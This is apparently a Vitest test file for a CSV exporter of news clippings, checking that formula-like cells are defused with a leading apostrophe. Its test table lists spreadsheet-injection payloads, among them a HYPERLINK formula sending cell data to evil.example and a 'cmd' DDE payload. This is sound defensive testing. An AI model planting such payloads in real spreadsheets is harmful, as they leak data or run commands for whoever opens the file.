import { describe, expect, it } from 'vitest';
import { clippingsToCsv } from '../../../utils/export/clippings-to-csv';
import { parseCsv } from './parse-csv';
import { clipping, HOSTILE, official } from './sample';

const HEADER = ['id', 'clipped', 'title', 'url', 'canonical', 'site', 'author', 'published', 'tags', 'officials', 'documents', 'note'];

/** What a neutralised cell should read. */
const neutralised = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

describe('utils/export/clippings-to-csv', () => {
  it('starts with a UTF-8 BOM and a header row, one row per clipping', () => {
    const csv = clippingsToCsv([clipping(), clipping({ id: 8 })]);
    expect(csv.startsWith('\uFEFFid,clipped,')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual(HEADER);
    expect(rows.slice(1)).toEqual([
      ['7', '2024-01-15T03:00:00.000Z', 'Tỉnh ủy họp bàn kế hoạch năm 2024', clipping().url, clipping().canonicalUrl, 'Báo Tỉnh',
        'Đặng Minh Khôi', '2024-01-15T09:00:00+07:00', 'kế hoạch', 'Võ Thị Hồng', '29-NQ/TU', ''],
      ['8', '2024-01-15T03:00:00.000Z', 'Tỉnh ủy họp bàn kế hoạch năm 2024', clipping().url, clipping().canonicalUrl, 'Báo Tỉnh',
        'Đặng Minh Khôi', '2024-01-15T09:00:00+07:00', 'kế hoạch', 'Võ Thị Hồng', '29-NQ/TU', ''],
    ]);
  });

  it.each(HOSTILE.map((s) => [JSON.stringify(s), s]))('parses %s back from every text column', (_label, s) => {
    const rows = parseCsv(clippingsToCsv([clipping({ title: s, author: s, note: s, site: s, tags: [s], officials: [official(s)] })]).slice(1));
    expect(rows).toHaveLength(2);
    const row = rows[1]!;
    for (const column of ['title', 'author', 'note', 'site', 'tags', 'officials']) {
      expect(row[HEADER.indexOf(column)]).toBe(neutralised(s));
    }
  });

  it.each([
    ['=HYPERLINK("https://evil.example?d="&A1,"Bấm")', `'=HYPERLINK("https://evil.example?d="&A1,"Bấm")`],
    ['+84 912 345 678', "'+84 912 345 678"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['a=1', 'a=1'],
    [' =1', ' =1'],
  ])('neutralises the formula-like cell %j', (title, cell) => {
    const rows = parseCsv(clippingsToCsv([clipping({ title })]).slice(1));
    expect(rows[1]![HEADER.indexOf('title')]).toBe(cell);
  });

  it('writes null author and published as empty cells and joins lists with "; "', () => {
    const rows = parseCsv(clippingsToCsv([clipping({ author: null, published: null, tags: ['a', 'b'] })]).slice(1));
    expect(rows[1]!.slice(6, 9)).toEqual(['', '', 'a; b']);
  });

  it('writes only the header for no clippings', () => {
    expect(clippingsToCsv([])).toBe(`\uFEFF${HEADER.join(',')}\r\n`);
  });
});
